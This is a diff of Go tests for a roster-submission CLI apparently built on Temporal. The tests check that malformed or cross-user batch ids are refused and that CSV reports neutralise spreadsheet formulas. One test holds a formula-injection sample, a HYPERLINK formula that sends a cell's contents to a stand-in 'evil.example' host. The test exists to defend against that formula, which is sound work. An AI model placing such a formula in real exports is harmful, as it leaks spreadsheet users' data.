@@ -3,6 +3,8 @@ package main
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
+	"encoding/json"
 	"errors"
 	"flag"
 	"os"
@@ -15,6 +17,7 @@ import (
 	"go.temporal.io/sdk/temporal"
 
 	"github.com/cohort-dev/cohort/roster"
+	"github.com/cohort-dev/cohort/workflows"
 )
 
 // Flags may stand after the positional arguments, as in
@@ -49,6 +52,19 @@ func TestRun_usageErrorsExitTwo(t *testing.T) {
 		{"missing file", []string{"submit", filepath.Join(dir, "nope.csv")}, []string{"nope.csv"}},
 		// Validation happens before any connection to Temporal: this needs none.
 		{"invalid roster", []string{"submit", bad}, []string{"bad.csv:2: email:", "bad.csv:4: email: duplicate of line 3", "nothing was submitted"}},
+		// Batch ids are refused before anything is read, stored or started
+		// (none of these connects to Temporal).
+		{"batch id naming another's chunk", []string{"submit", "--batch", "victim/chunk-00000", bad},
+			[]string{`submit: --batch: expected 1 to 64 letters`, `"victim/chunk-00000"`, "nothing was submitted"}},
+		{"batch id with a newline", []string{"submit", "--batch", "day1\nx", bad}, []string{`submit: --batch: expected 1 to 64`, `"day1\nx"`}},
+		{"batch id of 1,200 characters", []string{"submit", "--batch", strings.Repeat("b", 1200), bad}, []string{"submit: --batch:", "(1200 bytes)"}},
+		{"batch id Cohort reserves", []string{"submit", "--batch", "offboard-day1", bad}, []string{`not starting with "offboard-"`}},
+		{"status of a chunk id", []string{"status", "victim/chunk-00000"}, []string{"status: BATCH: expected a batch id"}},
+		{"report of a chunk id", []string{"report", "victim/chunk-00000", "--format", "json"}, []string{"report: BATCH: expected a batch id"}},
+		{"retry-failed of a chunk id", []string{"retry-failed", "victim/chunk-00000"}, []string{"retry-failed: BATCH: expected a batch id"}},
+		{"offboard dry run of a chunk id", []string{"offboard", "--dry-run", "victim/chunk-00000"},
+			[]string{`offboard: "victim/chunk-00000": neither a roster file nor a batch id`}},
+		{"reconcile of a chunk id", []string{"reconcile", "victim/chunk-00000"}, []string{`reconcile: "victim/chunk-00000": neither a roster file nor a batch id`}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -251,5 +267,49 @@ func TestRun_rosterMustBeARegularFile(t *testing.T) {
 				t.Errorf("message %q does not contain %q", err, tt.want)
 			}
 		})
+	}
+}
+
+// A report opened in a spreadsheet runs no formula: cells that would be
+// evaluated get a leading ', in CSV only; JSON keeps the values as they are.
+func TestWriteReport_neutralisesFormulas(t *testing.T) {
+	evil := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	outcomes := []workflows.Outcome{
+		{ParticipantResult: workflows.ParticipantResult{Email: "a@example.com", DisplayName: evil}, Status: workflows.StatusOK},
+		{ParticipantResult: workflows.ParticipantResult{Email: "b@example.com", DisplayName: "Taro"}, Status: workflows.StatusFailed,
+			Step: "create_user", Error: "-1 is not a user id; @admin: +see the log"},
+	}
+	var buf bytes.Buffer
+	if err := writeReport(&buf, "csv", outcomes); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatalf("report is not CSV: %v", err)
+	}
+	col := map[string]int{}
+	for i, h := range recs[0] {
+		col[h] = i
+	}
+	if got, want := recs[1][col["display_name"]], "'"+evil; got != want {
+		t.Errorf("display_name = %q, want %q", got, want)
+	}
+	if got, want := recs[2][col["last_error"]], "'-1 is not a user id; @admin: +see the log"; got != want {
+		t.Errorf("last_error = %q, want %q", got, want)
+	}
+	if got := recs[2][col["display_name"]]; got != "Taro" {
+		t.Errorf("display_name = %q, want Taro unchanged", got)
+	}
+
+	buf.Reset()
+	if err := writeReport(&buf, "json", outcomes); err != nil {
+		t.Fatal(err)
+	}
+	var rows []map[string]any
+	if err := json.Unmarshal(buf.Bytes(), &rows); err != nil {
+		t.Fatal(err)
+	}
+	if got := rows[0]["display_name"]; got != evil {
+		t.Errorf("JSON display_name = %q, want %q as it is", got, evil)
 	}
 }
